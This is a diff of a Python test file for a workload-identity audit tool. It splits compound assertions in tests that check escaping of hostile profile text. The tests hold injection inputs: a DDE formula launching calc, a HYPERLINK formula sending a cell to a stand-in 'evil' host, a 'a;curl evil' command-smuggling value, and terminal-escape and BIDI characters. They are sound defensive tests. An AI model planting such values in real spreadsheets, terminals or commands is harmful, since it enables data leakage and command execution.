@@ -58,7 +58,8 @@ def test_finding_message_keeps_every_field_on_its_own_line():
 
 def test_probe_result_json_escapes_controls():
     text = redact_json({"log": HOSTILE})
-    assert not RAW.search(text) and "\\u001b]0;owned" in text
+    assert not RAW.search(text)
+    assert "\\u001b]0;owned" in text
     assert json.loads(text) == {"log": HOSTILE}
 
 
@@ -89,7 +90,8 @@ def test_next_commands_take_no_hostile_profile_owner_or_iam_name():
     w = DEMO.profile.workloads[0].model_copy(update={"owner": f"=cmd|' /C calc'!A0{COLOUR}"})
     f = owner_label(DEMO.profile, w, {"metadata": {"labels": {}}})
     assert f is not None
-    assert f.next_steps[-1].endswith("=<team>") and "calc" not in f.next_steps[-1]
+    assert f.next_steps[-1].endswith("=<team>")
+    assert "calc" not in f.next_steps[-1]
     assert command_iam_name("eksid-runner+ci@x", "<user>") == "eksid-runner+ci@x"
     assert command_iam_name("a;curl evil", "<user>") == "<user>"
 
@@ -144,7 +146,9 @@ def test_inventory_csv_and_markdown_carry_no_formula_html_or_control():
     assert cells[0]["owner"] == '\'=HYPERLINK("http://evil/?"&A1,"click")'
     assert cells[0]["identity"] == report.NONE  # the family cells are the report's own words
     md = report.render_inventory(rows, "md")
-    assert "<img" not in md and "](" not in md and not RAW.search(md)
+    assert "<img" not in md
+    assert "](" not in md
+    assert not RAW.search(md)
     assert json.loads(report.render_inventory(rows, "json"))[1]["owner"] == rows[1]["owner"]
 
 
@@ -176,10 +180,13 @@ def test_a_run_shows_hostile_profile_text_escaped_everywhere(tmp_path):
     junit = next(tmp_path.glob("junit-*.xml")).read_text()
     md = inventory.read_text()
     for name, text in (("stdout", run.stdout), ("junit", junit), ("inventory", md)):
-        assert "\x1b" not in text and BIDI not in text, name
+        assert "\x1b" not in text, name
+        assert BIDI not in text, name
         # A terminal shows HTML as text; only a next command must not carry the owner's shell.
         assert not any("curl evil" in line for line in text.splitlines() if "next" in line and "expected" not in line)
-    assert "<img" not in md and "](" not in md and "&lt;img" in md
+    assert "<img" not in md
+    assert "](" not in md
+    assert "&lt;img" in md
     summary = next(line for line in run.stdout.splitlines() if line.startswith(f"{key} - "))
     assert summary.endswith(
         " does not name its owner (next: kubectl -n finance-demo get sa invoice-exporter-aws-sa -o yaml)"
